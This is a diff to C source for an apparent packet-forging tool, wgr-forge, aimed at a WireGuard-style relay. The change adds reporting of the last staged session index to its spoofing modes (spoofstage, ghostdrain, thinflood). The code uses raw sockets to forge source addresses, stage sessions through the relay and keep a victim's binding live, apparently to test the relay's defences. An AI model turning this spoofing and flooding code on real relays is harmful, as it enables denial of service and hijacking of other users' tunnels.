@@ -138,9 +138,11 @@
  * a binding at A. With "prove", A keeps the relay's cookie from its cookie
  * replies and puts the relay's mac2 on its initiations (renewed after 60 s):
  * it shows the relay that it receives at its address. Needs CAP_NET_RAW.
- * Prints how many stagings the relay passed on and how many initiations A
- * sent, and how many with mac2; exits 0. SIGTERM ends it early, with its
- * report.
+ * Prints how many stagings the relay passed on, how many initiations A sent
+ * and how many with mac2, and the receiver index of the last staged session
+ * that A confirmed (hex, as /proc/net/wgrelay prints it: data on it from A
+ * keeps VICTIM's binding there live); exits 0. SIGTERM ends it early, with
+ * its report.
  *
  *   wgr-forge ghostdrain ADDR PORT GHOST_ADDR GHOST_PORT SPOOF_ADDR SPOOF_PORT PUB_TARGET PUB_GHOST SECONDS PPS
  *
@@ -1434,10 +1436,11 @@ static int thinflood(int argc, char **argv)
  * One staging of spoofstage's: socket @a initiates to @k[0] (@marked: with
  * marked_initiation()); a response naming @k[1] goes from @s's forged source;
  * if the relay passes it on to @a, @a sends the first data on it, and three
- * more. Return: 1 if passed on, 0 if not, -1 if the raw socket failed.
+ * more, on the index set in @staged (if not NULL). Return: 1 if passed on, 0
+ * if not, -1 if the raw socket failed.
  */
 static int spoof_stage_once(int a, struct spoofer *s, uint8_t k[2][32], bool marked,
-			    uint8_t *msg, size_t size)
+			    uint8_t *msg, size_t size, uint32_t *staged)
 {
 	uint32_t s_index, r_index;
 
@@ -1449,6 +1452,8 @@ static int spoof_stage_once(int a, struct spoofer *s, uint8_t k[2][32], bool mar
 		return -1;
 	if (stage_wait(a, 2, msg, size) != 92 || get_le32(msg + 4) != r_index)
 		return 0;
+	if (staged)
+		*staged = r_index;
 	make_data(msg, r_index, 0);
 	send(a, msg, 32, 0);
 	for (int i = 1; i <= 3; i++) {	/* and keep it warm */
@@ -1480,7 +1485,7 @@ static int spoofstage(int argc, char **argv)
 	a = stage_socket(&to, len);
 	do {
 		rounds++;
-		ret = spoof_stage_once(a, &s, k, false, msg, sizeof(msg));
+		ret = spoof_stage_once(a, &s, k, false, msg, sizeof(msg), NULL);
 		if (ret < 0)
 			return 1;
 		passed += ret;
@@ -1505,6 +1510,7 @@ struct drainer {
 	uint8_t cookie[16];
 	double cookie_time;
 	long stagings, passed, sent, with_mac2;
+	uint32_t staged;
 };
 
 static bool drain_send(struct drainer *d, const uint8_t *msg, size_t len)
@@ -1574,7 +1580,8 @@ static int drain_run(struct drainer *d, struct spoofer *s, uint8_t k[2][32], lon
 		if (now_s() >= restage) {
 			d->stagings++;
 			ret = d->ghost ? blind_stage_once(d, s, k, msg) :
-					 spoof_stage_once(d->a, s, k, true, msg, sizeof(msg));
+					 spoof_stage_once(d->a, s, k, true, msg, sizeof(msg),
+							  &d->staged);
 			if (ret < 0)
 				return 1;
 			d->passed += ret;
@@ -1641,7 +1648,8 @@ static int drain(int argc, char **argv, bool blind)
 		       d.sent);
 	else
 		printf("drain: %ld stagings, %ld passed on by the relay; %ld initiations along them,"
-		       " %ld with the relay's mac2\n", d.stagings, d.passed, d.sent, d.with_mac2);
+		       " %ld with the relay's mac2; last staged index %08x\n", d.stagings, d.passed,
+		       d.sent, d.with_mac2, d.staged);
 	return ret;
 }
 
